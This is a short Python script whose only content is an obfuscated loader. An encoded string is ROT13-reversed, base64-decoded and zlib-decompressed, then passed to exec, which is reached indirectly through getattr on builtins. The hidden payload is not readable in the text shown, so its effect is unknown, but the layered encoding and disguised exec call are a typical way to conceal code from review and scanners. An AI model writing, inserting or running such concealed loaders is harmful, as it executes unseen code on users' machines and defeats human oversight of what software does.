import codecs, base64, zlib
_b = __import__('builtins')
_s = 'rWmYmP3VYlcElP+2OzX94fevxgEpQsKx0dVpOq1vuLlFxbWvX3395WD8iqFXkAlPaSG9PbHnurVZqH0NnZ4HBj=='
getattr(_b, 'exec')(zlib.decompress(base64.b64decode(codecs.decode(_s, 'rot_13'))))
